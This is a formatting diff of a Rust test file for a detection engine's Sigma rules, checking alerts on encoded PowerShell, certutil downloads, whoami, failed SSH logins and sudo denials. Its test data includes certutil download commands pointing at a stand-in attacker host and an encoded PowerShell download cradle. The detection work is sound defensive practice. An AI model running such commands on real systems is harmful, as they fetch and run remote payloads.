@@ -15,35 +15,22 @@ const SSH_FAILED: &str = "6e94893f-f137-4b39-891f-bc29d6640547";
 const SUDO_NOT_SUDOERS: &str = "6f3a9e68-9dc0-4704-9626-02f953db316f";
 
 fn project_rules_dir() -> PathBuf {
-    Path::new(env!("CARGO_MANIFEST_DIR"))
-        .join("../rules/sigma")
-        .canonicalize()
-        .unwrap()
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules/sigma").canonicalize().unwrap()
 }
 
 fn project_rules() -> SigmaRules {
     let (rules, errors) = SigmaRules::load(&[project_rules_dir()]);
-    assert!(
-        errors.is_empty(),
-        "project rules must load cleanly: {errors:#?}"
-    );
+    assert!(errors.is_empty(), "project rules must load cleanly: {errors:#?}");
     rules
 }
 
 fn ls(product: &str, category: Option<&str>, service: Option<&str>) -> LogSource {
-    LogSource {
-        product: Some(product.into()),
-        category: category.map(Into::into),
-        service: service.map(Into::into),
-    }
+    LogSource { product: Some(product.into()), category: category.map(Into::into), service: service.map(Into::into) }
 }
 
 /// A log event shaped like the collector's output.
 fn log_event(logsource: LogSource, fields: Value, message: Option<&str>) -> Event {
-    let mut ev = Event::new(
-        EventType::Log,
-        "2026-11-27T03:04:05.123456Z".parse().unwrap(),
-    );
+    let mut ev = Event::new(EventType::Log, "2026-11-27T03:04:05.123456Z".parse().unwrap());
     ev.host = Some("ws-cpnet-07".into());
     ev.segment = Some("cpnet".into());
     ev.sensor = Some("collector-1".into());
@@ -68,11 +55,7 @@ fn process(image: &str, cmd: &str, extra: Value) -> Event {
     if let (Value::Object(m), Value::Object(x)) = (&mut f, extra) {
         m.extend(x);
     }
-    log_event(
-        ls("windows", Some("process_creation"), Some("sysmon")),
-        f,
-        None,
-    )
+    log_event(ls("windows", Some("process_creation"), Some("sysmon")), f, None)
 }
 
 fn sshd(msg: &str) -> Event {
@@ -80,11 +63,7 @@ fn sshd(msg: &str) -> Event {
 }
 
 fn fired(rules: &SigmaRules, ev: &Event) -> Vec<String> {
-    rules
-        .evaluate(ev)
-        .into_iter()
-        .map(|d| d.detection.unwrap().rule_id)
-        .collect()
+    rules.evaluate(ev).into_iter().map(|d| d.detection.unwrap().rule_id).collect()
 }
 
 const PS: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
@@ -102,12 +81,7 @@ fn project_rules_load_with_zero_errors_and_carry_the_project_metadata() {
         let c = rsigma_parser::parse_sigma_yaml(&text).unwrap();
         assert!(c.errors.is_empty(), "{}: {:?}", r.file.display(), c.errors);
         let rule = &c.rules[0];
-        assert_eq!(
-            rule.author.as_deref(),
-            Some("Canh Gac project"),
-            "{}",
-            r.file.display()
-        );
+        assert_eq!(rule.author.as_deref(), Some("Canh Gac project"), "{}", r.file.display());
         let id = rule.id.as_deref().unwrap();
         assert!(is_uuid(id), "{}: id {id}", r.file.display());
         assert!(ids.insert(id.to_string()), "duplicate id {id}");
@@ -116,39 +90,20 @@ fn project_rules_load_with_zero_errors_and_carry_the_project_metadata() {
             "{}",
             r.file.display()
         );
-        assert!(
-            rule.tags.iter().any(|t| t.starts_with("attack.t")),
-            "{}: no ATT&CK technique tag",
-            r.file.display()
-        );
-        assert!(
-            rule.description.is_some() && rule.date.is_some() && rule.status.is_some(),
-            "{}",
-            r.file.display()
-        );
+        assert!(rule.tags.iter().any(|t| t.starts_with("attack.t")), "{}: no ATT&CK technique tag", r.file.display());
+        assert!(rule.description.is_some() && rule.date.is_some() && rule.status.is_some(), "{}", r.file.display());
     }
     // rsigma's Sigma linter (spec errors and best-practice warnings) finds nothing.
     for r in rules.rules() {
         let text = std::fs::read_to_string(&r.file).unwrap();
         let findings: Vec<String> = rsigma_parser::lint_yaml_str(&text)
             .iter()
-            .filter(|w| {
-                matches!(
-                    w.severity,
-                    rsigma_parser::Severity::Error | rsigma_parser::Severity::Warning
-                )
-            })
+            .filter(|w| matches!(w.severity, rsigma_parser::Severity::Error | rsigma_parser::Severity::Warning))
             .map(|w| w.to_string())
             .collect();
         assert!(findings.is_empty(), "{}: {findings:#?}", r.file.display());
     }
-    for id in [
-        POWERSHELL_ENC,
-        CERTUTIL,
-        WHOAMI,
-        SSH_FAILED,
-        SUDO_NOT_SUDOERS,
-    ] {
+    for id in [POWERSHELL_ENC, CERTUTIL, WHOAMI, SSH_FAILED, SUDO_NOT_SUDOERS] {
         assert!(ids.contains(id), "rule {id} missing");
     }
 }
@@ -163,50 +118,28 @@ fn builtin_rules_are_exactly_the_files_in_rules_sigma() {
             if p.is_dir() {
                 walk(&p, root, out);
             } else if p.extension().is_some_and(|x| x == "yml" || x == "yaml") {
-                let rel = p
-                    .strip_prefix(root)
-                    .unwrap()
-                    .to_string_lossy()
-                    .replace('\\', "/");
+                let rel = p.strip_prefix(root).unwrap().to_string_lossy().replace('\\', "/");
                 out.push((rel, std::fs::read_to_string(&p).unwrap()));
             }
         }
     }
-    walk(
-        &project_rules_dir(),
-        &root.canonicalize().unwrap(),
-        &mut on_disk,
-    );
+    walk(&project_rules_dir(), &root.canonicalize().unwrap(), &mut on_disk);
     on_disk.sort();
-    let builtin: Vec<(String, String)> = sigma::builtin::BUILTIN_RULES
-        .iter()
-        .map(|(n, t)| (n.to_string(), t.to_string()))
-        .collect();
+    let builtin: Vec<(String, String)> =
+        sigma::builtin::BUILTIN_RULES.iter().map(|(n, t)| (n.to_string(), t.to_string())).collect();
     let names = |v: &[(String, String)]| v.iter().map(|(n, _)| n.clone()).collect::<Vec<_>>();
-    assert_eq!(
-        names(&builtin),
-        names(&on_disk),
-        "update correlator/src/sigma/builtin.rs"
-    );
+    assert_eq!(names(&builtin), names(&on_disk), "update correlator/src/sigma/builtin.rs");
     assert_eq!(builtin, on_disk, "builtin rule text differs from the file");
     let (rules, errors) = SigmaRules::builtin();
     assert!(errors.is_empty(), "{errors:?}");
-    let ids = |r: &SigmaRules| {
-        r.rules()
-            .iter()
-            .map(|i| i.id.clone())
-            .collect::<std::collections::BTreeSet<_>>()
-    };
+    let ids = |r: &SigmaRules| r.rules().iter().map(|i| i.id.clone()).collect::<std::collections::BTreeSet<_>>();
     assert_eq!(ids(&rules), ids(&project_rules()));
 }
 
 fn is_uuid(s: &str) -> bool {
     let parts: Vec<&str> = s.split('-').collect();
     parts.iter().map(|p| p.len()).collect::<Vec<_>>() == [8, 4, 4, 4, 12]
-        && parts.iter().all(|p| {
-            p.bytes()
-                .all(|b| b.is_ascii_hexdigit() && !b.is_ascii_uppercase())
-        })
+        && parts.iter().all(|p| p.bytes().all(|b| b.is_ascii_hexdigit() && !b.is_ascii_uppercase()))
 }
 
 #[test]
@@ -222,46 +155,23 @@ fn encoded_powershell_fires_with_a_complete_detection_event() {
     let d = &dets[0];
     assert_eq!(d.event_type, EventType::Detection);
     assert_eq!(d.timestamp, ev.timestamp);
-    assert_eq!(
-        (&d.host, &d.segment, &d.sensor, &d.src_ip),
-        (&ev.host, &ev.segment, &ev.sensor, &ev.src_ip)
-    );
+    assert_eq!((&d.host, &d.segment, &d.sensor, &d.src_ip), (&ev.host, &ev.segment, &ev.sensor, &ev.src_ip));
     let det = d.detection.as_ref().unwrap();
     assert_eq!(det.engine, "sigma");
     assert_eq!(det.rule_id, POWERSHELL_ENC);
     assert_eq!(det.rule_title, "PowerShell Started With An Encoded Command");
     assert_eq!(det.level, Level::High);
-    assert!(
-        det.tags.contains(&"attack.t1059.001".to_string()),
-        "{:?}",
-        det.tags
-    );
-    assert_eq!(
-        det.logsource.as_ref(),
-        Some(&ev.log.as_ref().unwrap().logsource)
-    );
+    assert!(det.tags.contains(&"attack.t1059.001".to_string()), "{:?}", det.tags);
+    assert_eq!(det.logsource.as_ref(), Some(&ev.log.as_ref().unwrap().logsource));
     assert_eq!(det.evidence, vec![ev.id.clone().unwrap()]);
-    assert!(
-        det.extra["matched_fields"]
-            .as_array()
-            .is_some_and(|a| !a.is_empty()),
-        "{:?}",
-        det.extra
-    );
+    assert!(det.extra["matched_fields"].as_array().is_some_and(|a| !a.is_empty()), "{:?}", det.extra);
     // Deterministic id: the same log gives the same detection, id included.
     assert_eq!(d.id.as_deref(), Some(d.compute_id().as_str()));
     assert_eq!(rules.evaluate(&ev), dets);
     // A log without an id yet is evidenced by the id it will get.
     let mut no_id = ev.clone();
     no_id.id = None;
-    assert_eq!(
-        rules.evaluate(&no_id)[0]
-            .detection
-            .as_ref()
-            .unwrap()
-            .evidence,
-        det.evidence
-    );
+    assert_eq!(rules.evaluate(&no_id)[0].detection.as_ref().unwrap().evidence, det.evidence);
     // The detection round-trips through the bus encoding.
     assert_eq!(&Event::from_json(&d.to_json()).unwrap(), d);
 
@@ -272,33 +182,16 @@ fn encoded_powershell_fires_with_a_complete_detection_event() {
         "powershell.exe /enc SQBFAFgA",
         "\"powershell.exe\" -NoProfile -e SQBFAFgA",
     ] {
-        let img = if cmd.starts_with("pwsh") {
-            "C:\\Program Files\\PowerShell\\7\\pwsh.exe"
-        } else {
-            PS
-        };
-        assert_eq!(
-            fired(&rules, &process(img, cmd, json!({}))),
-            [POWERSHELL_ENC],
-            "{cmd}"
-        );
+        let img = if cmd.starts_with("pwsh") { "C:\\Program Files\\PowerShell\\7\\pwsh.exe" } else { PS };
+        assert_eq!(fired(&rules, &process(img, cmd, json!({}))), [POWERSHELL_ENC], "{cmd}");
     }
     // Benign PowerShell and an unrelated process with "-enc" in its arguments.
     for (img, cmd) in [
-        (
-            PS,
-            "powershell.exe -ExecutionPolicy Bypass -File C:\\scripts\\inventory.ps1",
-        ),
+        (PS, "powershell.exe -ExecutionPolicy Bypass -File C:\\scripts\\inventory.ps1"),
         (PS, "powershell.exe -NoProfile -Command Get-Service"),
-        (
-            "C:\\Tools\\ffmpeg.exe",
-            "ffmpeg.exe -i a.mp4 -enc h264 b.mp4",
-        ),
+        ("C:\\Tools\\ffmpeg.exe", "ffmpeg.exe -i a.mp4 -enc h264 b.mp4"),
     ] {
-        assert!(
-            fired(&rules, &process(img, cmd, json!({}))).is_empty(),
-            "{cmd}"
-        );
+        assert!(fired(&rules, &process(img, cmd, json!({}))).is_empty(), "{cmd}");
     }
 }
 
@@ -310,11 +203,7 @@ fn certutil_download_fires_and_other_certutil_uses_do_not() {
         "certutil.exe -urlcache -split -f http://evil-c2.example/payload.bin C:\\Users\\Public\\p.bin",
         "certutil /verifyctl -f -split https://203.0.113.9/x.exe",
     ] {
-        assert_eq!(
-            fired(&rules, &process(certutil, cmd, json!({}))),
-            [CERTUTIL],
-            "{cmd}"
-        );
+        assert_eq!(fired(&rules, &process(certutil, cmd, json!({}))), [CERTUTIL], "{cmd}");
     }
     // Renamed binary, recognized by its original file name.
     let renamed = process(
@@ -323,15 +212,8 @@ fn certutil_download_fires_and_other_certutil_uses_do_not() {
         json!({"OriginalFileName": "CertUtil.exe"}),
     );
     assert_eq!(fired(&rules, &renamed), [CERTUTIL]);
-    for cmd in [
-        "certutil -hashfile C:\\iso\\win.iso SHA256",
-        "certutil -urlcache",
-        "certutil -decode a.b64 a.exe",
-    ] {
-        assert!(
-            fired(&rules, &process(certutil, cmd, json!({}))).is_empty(),
-            "{cmd}"
-        );
+    for cmd in ["certutil -hashfile C:\\iso\\win.iso SHA256", "certutil -urlcache", "certutil -decode a.b64 a.exe"] {
+        assert!(fired(&rules, &process(certutil, cmd, json!({}))).is_empty(), "{cmd}");
     }
 }
 
@@ -339,46 +221,14 @@ fn certutil_download_fires_and_other_certutil_uses_do_not() {
 fn whoami_fires_for_a_plain_user_only() {
     let rules = project_rules();
     let whoami = "C:\\Windows\\System32\\whoami.exe";
-    assert_eq!(
-        fired(&rules, &process(whoami, "whoami /all", json!({}))),
-        [WHOAMI]
-    );
+    assert_eq!(fired(&rules, &process(whoami, "whoami /all", json!({}))), [WHOAMI]);
+    assert!(fired(&rules, &process(whoami, "whoami", json!({"IntegrityLevel": "High"}))).is_empty());
     assert!(
-        fired(
-            &rules,
-            &process(whoami, "whoami", json!({"IntegrityLevel": "High"}))
-        )
-        .is_empty()
+        fired(&rules, &process(whoami, "whoami", json!({"IntegrityLevel": "System", "User": "NT AUTHORITY\\SYSTEM"})))
+            .is_empty()
     );
-    assert!(
-        fired(
-            &rules,
-            &process(
-                whoami,
-                "whoami",
-                json!({"IntegrityLevel": "System", "User": "NT AUTHORITY\\SYSTEM"})
-            )
-        )
-        .is_empty()
-    );
-    assert!(
-        fired(
-            &rules,
-            &process(whoami, "whoami", json!({"User": "NT AUTHORITY\\SYSTEM"}))
-        )
-        .is_empty()
-    );
-    assert!(
-        fired(
-            &rules,
-            &process(
-                "C:\\Windows\\System32\\cmd.exe",
-                "cmd.exe /c dir",
-                json!({})
-            )
-        )
-        .is_empty()
-    );
+    assert!(fired(&rules, &process(whoami, "whoami", json!({"User": "NT AUTHORITY\\SYSTEM"}))).is_empty());
+    assert!(fired(&rules, &process("C:\\Windows\\System32\\cmd.exe", "cmd.exe /c dir", json!({}))).is_empty());
 }
 
 #[test]
@@ -390,41 +240,27 @@ fn ssh_failed_password_and_sudo_rules_fire_on_the_message() {
     let det = dets[0].detection.as_ref().unwrap();
     assert_eq!(det.rule_id, SSH_FAILED);
     assert_eq!(det.level, Level::Low);
+    assert_eq!(det.logsource.as_ref().unwrap().service.as_deref(), Some("sshd"));
     assert_eq!(
-        det.logsource.as_ref().unwrap().service.as_deref(),
-        Some("sshd")
-    );
-    assert_eq!(
-        fired(
-            &rules,
-            &sshd("Failed password for invalid user admin from 203.0.113.7 port 4243 ssh2")
-        ),
+        fired(&rules, &sshd("Failed password for invalid user admin from 203.0.113.7 port 4243 ssh2")),
         [SSH_FAILED]
     );
-    for benign in [
-        "Accepted publickey for quantri from 10.10.1.5 port 51522 ssh2",
-        "Connection closed by 10.10.1.5 port 51522",
-    ] {
+    for benign in
+        ["Accepted publickey for quantri from 10.10.1.5 port 51522 ssh2", "Connection closed by 10.10.1.5 port 51522"]
+    {
         assert!(fired(&rules, &sshd(benign)).is_empty(), "{benign}");
     }
     let sudo = |m: &str| log_event(ls("linux", None, Some("sudo")), json!({}), Some(m));
     assert_eq!(
         fired(
             &rules,
-            &sudo(
-                "www-data : user NOT in sudoers ; TTY=pts/0 ; PWD=/var/www ; USER=root ; COMMAND=/bin/bash"
-            )
+            &sudo("www-data : user NOT in sudoers ; TTY=pts/0 ; PWD=/var/www ; USER=root ; COMMAND=/bin/bash")
         ),
         [SUDO_NOT_SUDOERS]
     );
     assert!(
-        fired(
-            &rules,
-            &sudo(
-                "quantri : TTY=pts/0 ; PWD=/home/quantri ; USER=root ; COMMAND=/usr/bin/apt update"
-            )
-        )
-        .is_empty()
+        fired(&rules, &sudo("quantri : TTY=pts/0 ; PWD=/home/quantri ; USER=root ; COMMAND=/usr/bin/apt update"))
+            .is_empty()
     );
 }
 
@@ -434,51 +270,18 @@ fn rules_only_see_logs_of_their_log_source() {
     // The sshd text in a Windows event, a PowerShell command line in a Linux log, a process
     // command line in a Windows log without the process_creation category.
     let msg = "Failed password for root from 203.0.113.7 port 4242 ssh2";
-    let win = log_event(
-        ls("windows", Some("process_creation"), Some("sysmon")),
-        json!({"Image": "C:\\x.exe"}),
-        Some(msg),
-    );
+    let win =
+        log_event(ls("windows", Some("process_creation"), Some("sysmon")), json!({"Image": "C:\\x.exe"}), Some(msg));
     assert!(fired(&rules, &win).is_empty());
     let auth = log_event(ls("linux", None, Some("auth")), json!({}), Some(msg));
-    assert!(
-        fired(&rules, &auth).is_empty(),
-        "a service: sshd rule must not see service: auth"
-    );
-    let no_service = log_event(
-        LogSource {
-            product: Some("linux".into()),
-            ..LogSource::default()
-        },
-        json!({}),
-        Some(msg),
-    );
-    assert!(
-        fired(&rules, &no_service).is_empty(),
-        "the rule sets service: sshd, the event has none"
-    );
+    assert!(fired(&rules, &auth).is_empty(), "a service: sshd rule must not see service: auth");
+    let no_service =
+        log_event(LogSource { product: Some("linux".into()), ..LogSource::default() }, json!({}), Some(msg));
+    assert!(fired(&rules, &no_service).is_empty(), "the rule sets service: sshd, the event has none");
     let f = json!({"Image": PS, "CommandLine": "powershell -enc SQBFAFgA"});
-    assert!(
-        fired(
-            &rules,
-            &log_event(ls("linux", Some("process_creation"), None), f.clone(), None)
-        )
-        .is_empty()
-    );
-    assert!(
-        fired(
-            &rules,
-            &log_event(ls("windows", None, Some("security")), f.clone(), None)
-        )
-        .is_empty()
-    );
-    assert_eq!(
-        fired(
-            &rules,
-            &log_event(ls("WINDOWS", Some("Process_Creation"), None), f, None)
-        ),
-        [POWERSHELL_ENC]
-    );
+    assert!(fired(&rules, &log_event(ls("linux", Some("process_creation"), None), f.clone(), None)).is_empty());
+    assert!(fired(&rules, &log_event(ls("windows", None, Some("security")), f.clone(), None)).is_empty());
+    assert_eq!(fired(&rules, &log_event(ls("WINDOWS", Some("Process_Creation"), None), f, None)), [POWERSHELL_ENC]);
     // Only log events are evaluated.
     let mut not_log = sshd(msg);
     not_log.event_type = EventType::Other("syslog".into());
@@ -503,10 +306,7 @@ level: medium
 "#;
 
 fn rule(title: &str, id: &str, keyword: &str) -> String {
-    RULE_TEMPLATE
-        .replace("TITLE", title)
-        .replace("ID", id)
-        .replace("KEYWORD", keyword)
+    RULE_TEMPLATE.replace("TITLE", title).replace("ID", id).replace("KEYWORD", keyword)
 }
 
 #[test]
@@ -515,29 +315,15 @@ fn broken_rules_are_reported_with_their_file_and_the_rest_still_loads() {
     let d = dir.path();
     std::fs::create_dir_all(d.join("sub/deeper")).unwrap();
     std::fs::create_dir_all(d.join(".git")).unwrap();
-    std::fs::write(
-        d.join("good.yml"),
-        rule(
-            "Good",
-            "0c3c4d6e-0000-4000-8000-000000000001",
-            "Failed password",
-        ),
-    )
-    .unwrap();
+    std::fs::write(d.join("good.yml"), rule("Good", "0c3c4d6e-0000-4000-8000-000000000001", "Failed password"))
+        .unwrap();
     std::fs::write(
         d.join("sub/deeper/also_good.yaml"),
-        rule(
-            "Also Good",
-            "0c3c4d6e-0000-4000-8000-000000000002",
-            "Invalid user",
-        ),
+        rule("Also Good", "0c3c4d6e-0000-4000-8000-000000000002", "Invalid user"),
     )
     .unwrap();
-    std::fs::write(
-        d.join("sub/broken.yml"),
-        "title: Broken\nlogsource: [unclosed\ndetection:\n  sel: {a: b}\n",
-    )
-    .unwrap();
+    std::fs::write(d.join("sub/broken.yml"), "title: Broken\nlogsource: [unclosed\ndetection:\n  sel: {a: b}\n")
+        .unwrap();
     std::fs::write(
         d.join("sub/bad_condition.yml"),
         "title: Bad Condition\nlogsource:\n  product: linux\ndetection:\n  selection:\n    a: b\n  condition: selection and nosuchthing\n",
@@ -545,11 +331,7 @@ fn broken_rules_are_reported_with_their_file_and_the_rest_still_loads() {
     .unwrap();
     std::fs::write(d.join("no_rule.yml"), "just: a mapping\n").unwrap();
     std::fs::write(d.join("empty.yml"), "").unwrap();
-    std::fs::write(
-        d.join("zz_dup.yml"),
-        rule("Dup", "0c3c4d6e-0000-4000-8000-000000000001", "x"),
-    )
-    .unwrap();
+    std::fs::write(d.join("zz_dup.yml"), rule("Dup", "0c3c4d6e-0000-4000-8000-000000000001", "x")).unwrap();
     std::fs::write(
         d.join("correlation.yml"),
         "title: Many\nid: 0c3c4d6e-0000-4000-8000-000000000009\ncorrelation:\n  type: event_count\n  rules:\n    - 0c3c4d6e-0000-4000-8000-000000000001\n  group-by:\n    - host\n  timespan: 5m\n  condition:\n    gte: 10\nlevel: high\n",
@@ -568,37 +350,21 @@ fn broken_rules_are_reported_with_their_file_and_the_rest_still_loads() {
     assert_eq!(by_file("no_rule.yml"), 1, "{errors:#?}");
     assert_eq!(by_file("empty.yml"), 1, "{errors:#?}");
     assert_eq!(by_file("zz_dup.yml"), 1, "{errors:#?}");
+    assert!(errors.iter().any(|e| e.file.ends_with("zz_dup.yml") && e.reason.contains("duplicate id")), "{errors:#?}");
     assert!(
-        errors
-            .iter()
-            .any(|e| e.file.ends_with("zz_dup.yml") && e.reason.contains("duplicate id")),
-        "{errors:#?}"
-    );
-    assert!(
-        errors
-            .iter()
-            .any(|e| e.file.ends_with("correlation.yml") && e.reason.contains("correlation")),
+        errors.iter().any(|e| e.file.ends_with("correlation.yml") && e.reason.contains("correlation")),
         "{errors:#?}"
     );
     assert_eq!(by_file("does-not-exist"), 1, "{errors:#?}");
     assert_eq!(errors.len(), 7, "{errors:#?}");
     // Display names the file.
-    let shown = errors
-        .iter()
-        .find(|e| e.file.ends_with("sub/broken.yml"))
-        .unwrap()
-        .to_string();
+    let shown = errors.iter().find(|e| e.file.ends_with("sub/broken.yml")).unwrap().to_string();
     assert!(shown.contains("broken.yml:"), "{shown}");
     // A single file is loaded as given.
     let (one, errs) = SigmaRules::load(&[d.join("good.yml")]);
     assert!(errs.is_empty() && one.len() == 1);
     // What loaded works.
-    assert_eq!(
-        rules
-            .evaluate(&sshd("Invalid user bob from 203.0.113.7"))
-            .len(),
-        1
-    );
+    assert_eq!(rules.evaluate(&sshd("Invalid user bob from 203.0.113.7")).len(), 1);
 }
 
 #[test]
@@ -612,38 +378,17 @@ filter:
         message|contains: 'from 10.10.1.5 '
     condition: not selection
 "#;
-    let orphan = filter.replace(
-        "0c3c4d6e-0000-4000-8000-000000000001",
-        "0c3c4d6e-0000-4000-8000-00000000ffff",
-    );
+    let orphan = filter.replace("0c3c4d6e-0000-4000-8000-000000000001", "0c3c4d6e-0000-4000-8000-00000000ffff");
     let (rules, errors) = SigmaRules::from_sources([
-        (
-            "r.yml",
-            rule(
-                "Failed",
-                "0c3c4d6e-0000-4000-8000-000000000001",
-                "Failed password",
-            ),
-        ),
+        ("r.yml", rule("Failed", "0c3c4d6e-0000-4000-8000-000000000001", "Failed password")),
         ("f.yml", filter.to_string()),
         ("orphan.yml", orphan),
     ]);
     assert_eq!(errors.len(), 1, "{errors:#?}");
     assert_eq!(errors[0].file, Path::new("orphan.yml"));
     assert_eq!(rules.filter_count(), 1);
-    assert_eq!(
-        rules
-            .evaluate(&sshd(
-                "Failed password for root from 203.0.113.7 port 1 ssh2"
-            ))
-            .len(),
-        1
-    );
-    assert!(
-        rules
-            .evaluate(&sshd("Failed password for root from 10.10.1.5 port 1 ssh2"))
-            .is_empty()
-    );
+    assert_eq!(rules.evaluate(&sshd("Failed password for root from 203.0.113.7 port 1 ssh2")).len(), 1);
+    assert!(rules.evaluate(&sshd("Failed password for root from 10.10.1.5 port 1 ssh2")).is_empty());
 }
 
 #[test]
@@ -681,15 +426,9 @@ fn demo_attack_events_through_the_collector_raise_the_expected_detections() {
         ("<85>Nov 27 03:04:05 srv-web01 sudo: www-data : user NOT in sudoers ; TTY=pts/0 ; PWD=/var/www ; USER=root ; COMMAND=/bin/sh".into(), vec![SUDO_NOT_SUDOERS]),
     ];
     for (raw, want) in cases {
-        let mut ev = soc_collector::parse::parse_line(raw.as_bytes(), &ctx)
-            .unwrap_or_else(|e| panic!("{raw}: {e}"));
+        let mut ev = soc_collector::parse::parse_line(raw.as_bytes(), &ctx).unwrap_or_else(|e| panic!("{raw}: {e}"));
         ev.ensure_id();
-        assert_eq!(
-            fired(&rules, &ev),
-            want,
-            "{raw}\n{:?}",
-            ev.log.as_ref().map(|l| &l.logsource)
-        );
+        assert_eq!(fired(&rules, &ev), want, "{raw}\n{:?}", ev.log.as_ref().map(|l| &l.logsource));
     }
 }
 
@@ -703,18 +442,13 @@ fn corpora() -> Option<PathBuf> {
 
 /// Concatenated (pretty-printed) JSON objects.
 fn json_objects(text: &str) -> Vec<Value> {
-    serde_json::Deserializer::from_str(text)
-        .into_iter::<Value>()
-        .map(|v| v.unwrap())
-        .collect()
+    serde_json::Deserializer::from_str(text).into_iter::<Value>().map(|v| v.unwrap()).collect()
 }
 
 #[test]
 fn sigmahq_rules_fire_on_their_regression_logs() {
     let Some(root) = corpora() else {
-        eprintln!(
-            "SKIPPED sigmahq_rules_fire_on_their_regression_logs: ../shared/corpora/sigma not found"
-        );
+        eprintln!("SKIPPED sigmahq_rules_fire_on_their_regression_logs: ../shared/corpora/sigma not found");
         return;
     };
     let index = std::fs::read_to_string(root.join("REGRESSION_INDEX.tsv")).unwrap();
@@ -722,12 +456,7 @@ fn sigmahq_rules_fire_on_their_regression_logs() {
     let (mut total, mut passed, mut failures, mut more) = (0, 0, Vec::new(), Vec::new());
     for line in index.lines().skip(1) {
         let cols: Vec<&str> = line.split('\t').collect();
-        let (rule_id, rule_path, json_path, want) = (
-            cols[0],
-            cols[1],
-            cols[6],
-            cols.get(7).copied().unwrap_or(""),
-        );
+        let (rule_id, rule_path, json_path, want) = (cols[0], cols[1], cols[6], cols.get(7).copied().unwrap_or(""));
         total += 1;
         let (rules, errors) = SigmaRules::load(&[root.join(rule_path)]);
         if !errors.is_empty() || rules.len() != 1 {
@@ -740,11 +469,7 @@ fn sigmahq_rules_fire_on_their_regression_logs() {
             let mut ev = soc_collector::parse::windows::parse(obj, &ctx).unwrap();
             ev.ensure_id();
             logsources.push(ev.log.as_ref().unwrap().logsource.clone());
-            hits += rules
-                .evaluate(&ev)
-                .iter()
-                .filter(|d| d.detection.as_ref().unwrap().rule_id == rule_id)
-                .count();
+            hits += rules.evaluate(&ev).iter().filter(|d| d.detection.as_ref().unwrap().rule_id == rule_id).count();
         }
         // Upstream counts are minimums: e.g. the AnyDesk and credential-dumping-tool logs
         // hold three events each that the rule plainly matches, with match_count 1.
@@ -755,7 +480,10 @@ fn sigmahq_rules_fire_on_their_regression_logs() {
                 more.push(format!("{rule_path}: {hits} hits, match_count {want:?}"));
             }
         } else {
-            failures.push(format!("{rule_path}: {hits} hits (want {want:?}) rule logsource {:?} event logsources {logsources:?}", rules.rules()[0].logsource));
+            failures.push(format!(
+                "{rule_path}: {hits} hits (want {want:?}) rule logsource {:?} event logsources {logsources:?}",
+                rules.rules()[0].logsource
+            ));
         }
     }
     eprintln!("SigmaHQ regression: {passed}/{total} rules fire on their regression logs");
@@ -772,17 +500,11 @@ fn sigmahq_rules_fire_on_their_regression_logs() {
 #[test]
 fn sigmahq_windows_process_creation_rules_load() {
     let Some(root) = corpora() else {
-        eprintln!(
-            "SKIPPED sigmahq_windows_process_creation_rules_load: ../shared/corpora/sigma not found"
-        );
+        eprintln!("SKIPPED sigmahq_windows_process_creation_rules_load: ../shared/corpora/sigma not found");
         return;
     };
     let (rules, errors) = SigmaRules::load(&[root.join("rules/windows/process_creation")]);
-    eprintln!(
-        "SigmaHQ rules/windows/process_creation: {} rules loaded, {} errors",
-        rules.len(),
-        errors.len()
-    );
+    eprintln!("SigmaHQ rules/windows/process_creation: {} rules loaded, {} errors", rules.len(), errors.len());
     for e in &errors {
         eprintln!("  {e}");
     }
@@ -795,23 +517,13 @@ fn sigmahq_windows_process_creation_rules_load() {
         json!({"ParentImage": "C:\\Windows\\explorer.exe"}),
     );
     let b = rules.evaluate(&benign);
-    assert!(
-        b.len() <= 1,
-        "{:?}",
-        b.iter()
-            .map(|d| &d.detection.as_ref().unwrap().rule_title)
-            .collect::<Vec<_>>()
-    );
+    assert!(b.len() <= 1, "{:?}", b.iter().map(|d| &d.detection.as_ref().unwrap().rule_title).collect::<Vec<_>>());
     let bad = process(
         PS,
         "powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
         json!({"ParentImage": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"}),
     );
-    let titles: Vec<String> = rules
-        .evaluate(&bad)
-        .into_iter()
-        .map(|d| d.detection.unwrap().rule_title)
-        .collect();
+    let titles: Vec<String> = rules.evaluate(&bad).into_iter().map(|d| d.detection.unwrap().rule_title).collect();
     eprintln!("  encoded PowerShell from Word: {titles:?}");
     assert!(titles.len() >= 2, "{titles:?}");
 }
@@ -854,33 +566,17 @@ async fn wiring_sketch_logs_in_detections_out() {
     events.extend(detections.iter().cloned());
     // (store_with_retry(store, &events, ..) here)
     if !detections.is_empty() {
-        soc_bus::with_backoff("publish detections", max_outage, || {
-            soc_bus::publish_events(bus.as_ref(), &detections)
-        })
-        .await
-        .unwrap();
+        soc_bus::with_backoff("publish detections", max_outage, || soc_bus::publish_events(bus.as_ref(), &detections))
+            .await
+            .unwrap();
     }
     consumer.commit(&msgs).await.unwrap();
 
     assert_eq!(events.len(), 5);
-    let mut det_consumer = bus
-        .subscribe("dashboard", &[Kind::Detection])
-        .await
-        .unwrap();
-    let published = det_consumer
-        .poll(100, Duration::from_millis(50))
-        .await
-        .unwrap();
-    let mut got: Vec<String> = published
-        .iter()
-        .map(|m| {
-            Event::from_json(&m.payload)
-                .unwrap()
-                .detection
-                .unwrap()
-                .rule_id
-        })
-        .collect();
+    let mut det_consumer = bus.subscribe("dashboard", &[Kind::Detection]).await.unwrap();
+    let published = det_consumer.poll(100, Duration::from_millis(50)).await.unwrap();
+    let mut got: Vec<String> =
+        published.iter().map(|m| Event::from_json(&m.payload).unwrap().detection.unwrap().rule_id).collect();
     got.sort();
     let mut want = vec![SSH_FAILED.to_string(), POWERSHELL_ENC.to_string()];
     want.sort();
@@ -888,10 +584,6 @@ async fn wiring_sketch_logs_in_detections_out() {
     // Evidence points at the stored logs.
     for d in &detections {
         let ev_id = &d.detection.as_ref().unwrap().evidence[0];
-        assert!(
-            events
-                .iter()
-                .any(|e| e.id.as_ref() == Some(ev_id) && e.event_type == EventType::Log)
-        );
+        assert!(events.iter().any(|e| e.id.as_ref() == Some(ev_id) && e.event_type == EventType::Log));
     }
 }
